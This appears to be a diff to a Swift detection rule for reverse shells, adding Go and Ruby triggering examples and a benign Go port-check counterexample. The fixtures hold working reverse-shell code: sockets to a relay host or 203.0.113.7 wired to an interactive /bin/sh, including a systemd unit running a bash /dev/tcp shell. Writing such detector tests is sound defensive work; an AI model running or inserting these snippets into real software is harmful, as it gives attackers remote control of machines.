@@ -37,6 +37,12 @@ extension ReverseShellRule {
       "import socket, subprocess\nwith socket.create_connection(FLEET) as s:\n    f = s.makefile('rwb')\n    for line in f:\n        r = ↓subprocess.run(line.decode(), shell=True, capture_output=True)\n        f.write(r.stdout + r.stderr)\n",
       language: .python, note: "commands read line by line from a socket file, answered through it"),
     Example("const unit = ↓`[Service]\\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\\n`;\nrequire('fs').writeFileSync(p, unit);\n", language: .javascript),
+    Example(
+      "func keep(relay string) {\n\tfor {\n\t\tconn, err := ↓net.DialTimeout(\"tcp\", relay, 10*time.Second)\n\t\tif err == nil {\n\t\t\tsh := exec.Command(\"/bin/sh\", \"-i\")\n\t\t\tsh.Stdin, sh.Stdout, sh.Stderr = conn, conn, conn\n\t\t\t_ = sh.Run()\n\t\t}\n\t\ttime.Sleep(90 * time.Second)\n\t}\n}\n",
+      language: .text, path: "scripts/kdebug/main.go", note: "Go, a language without a lexer: a dialled connection wired to an interactive shell"),
+    Example(
+      "require 'socket'\ns = ↓TCPSocket.new(ENV.fetch('RELAY', 'relay.example.net'), 8443)\nexec('/bin/sh -i', [:in, :out, :err] => [s, s, s])\n",
+      language: .text, path: "scripts/sync.rb", note: "Ruby: the socket becomes the shell's standard streams"),
   ]
 
   static let nonTriggering: [Example] = [
@@ -62,5 +68,9 @@ extension ReverseShellRule {
     Example(
       "import json, websocket\nws = websocket.create_connection('wss://stream.binance.com:9443/ws/btcusdt@trade')\nwhile True:\n    print(json.loads(ws.recv())['p'])\n",
       language: .python, note: "a client that only reads messages"),
+    Example(
+      "func ping(addr string) error {\n\tconn, err := net.DialTimeout(\"tcp\", addr, 2*time.Second)\n\tif err != nil {\n\t\treturn err\n\t}\n\tconn.Close()\n\tcmd := exec.Command(\"bash\", \"deploy.sh\")\n\tcmd.Stdin = os.Stdin\n\treturn cmd.Run()\n}\n",
+      language: .text, path: "scripts/preflight/main.go",
+      note: "Go: a port check, then a local script reading the user's terminal; the connection feeds no shell"),
   ]
 }
